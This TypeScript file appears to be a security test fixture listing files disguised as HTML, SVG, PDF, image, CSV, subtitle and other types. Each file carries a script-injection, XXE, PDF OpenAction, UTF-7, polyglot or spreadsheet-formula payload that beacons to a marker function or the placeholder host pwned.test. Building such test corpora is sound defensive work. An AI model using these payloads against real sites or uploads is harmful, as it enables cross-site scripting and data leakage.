/** A file that runs, loads or redirects when opened as its declared type, or as the type it resembles. */
export type PlantedFile = { readonly name: string; readonly type: string; readonly content: string }

const html = '<!doctype html><body onload=pwned(§)><script>pwned(§)</script><img src=//pwned.test/§>'
const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

/** A PDF that runs a script when opened, and redirects. */
const pdf = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(§\\);pwned\\(§\\);this.submitForm\\("http://pwned.test/§"\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(http://pwned.test/§)>>>>>>endobj
trailer<</Root 1 0 R>>
`

/** `§` is replaced with the number of the case. */
export const PLANTED_FILES: readonly PlantedFile[] = [
  { name: 'a.html', type: 'text/html', content: html },
  { name: 'page', type: 'text/html', content: html },
  { name: 'b.png', type: 'image/png', content: html },
  { name: 'c.txt', type: 'text/html', content: html },
  { name: 'd.pdf', type: 'application/pdf', content: `%PDF-1.4\n${html}` },
  { name: 'e.htm', type: 'text/html; charset=utf-7', content: '+ADw-script+AD4-pwned(§)+ADw-/script+AD4-' },
  {
    name: 'f.xhtml',
    type: 'application/xhtml+xml',
    content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>pwned(§)</script></html>`,
  },
  {
    name: 'g.xml',
    type: 'application/xml',
    content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//pwned.test/§"?><x><script xmlns="http://www.w3.org/1999/xhtml">pwned(§)</script></x>`,
  },
  {
    name: 'h.svg',
    type: 'image/svg+xml',
    content: `${svg} onload="pwned(§)"><script>pwned(§)</script><image xlink:href="//pwned.test/§"/></svg>`,
  },
  {
    name: 'i.svg',
    type: 'image/svg+xml',
    content: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http://pwned.test/§">]>${svg}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.pwned(§)"/></foreignObject>&x;</svg>`,
  },
  { name: 'j.js', type: 'text/javascript', content: 'pwned(§)' },
  { name: 'k.css', type: 'text/css', content: '@import "//pwned.test/§";*{background:url(//pwned.test/§)}' },
  { name: 'l.gif', type: 'image/gif', content: 'GIF89a/*\0\0\0\0*/=1;pwned(§);//<script>pwned(§)</script>' },
  { name: 'm.pdf', type: 'application/pdf', content: pdf },
  {
    name: 'n.md',
    type: 'text/markdown',
    content: '# <img src=x onerror=pwned(§)>\n[x](javascript:pwned(§)) ![x](http://pwned.test/§)\n',
  },
  {
    name: 'o.csv',
    type: 'text/csv',
    content: 'a,b\n"=HYPERLINK(""http://pwned.test/§"")",<script>pwned(§)</script>\n',
  },
  { name: 'p.json', type: 'application/json', content: '{"x":"<script>pwned(§)</script>"}' },
  { name: 'q.mhtml', type: 'multipart/related', content: `MIME-Version: 1.0\nContent-Type: text/html\n\n${html}` },
  {
    name: 'r.xsl',
    type: 'text/xsl',
    content:
      '<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"><script>pwned(§)</script></x:template></x:stylesheet>',
  },
  { name: 's.vtt', type: 'text/vtt', content: 'WEBVTT\n\n00:00.000 --> 00:09.000\n<img src=x onerror=pwned(§)>\n' },
  { name: 't.swf', type: 'application/x-shockwave-flash', content: 'FWS\u0006getURL javascript:pwned(§)' },
  { name: 'u.eml', type: 'message/rfc822', content: `Subject: x\nContent-Type: text/html\n\n${html}` },
  { name: 'v.url', type: 'application/internet-shortcut', content: '[InternetShortcut]\nURL=javascript:pwned(§)\n' },
  { name: 'w.mp4', type: 'video/mp4', content: `\0\0\0\u0018ftypmp42\0\0\0\0${html}` },
]
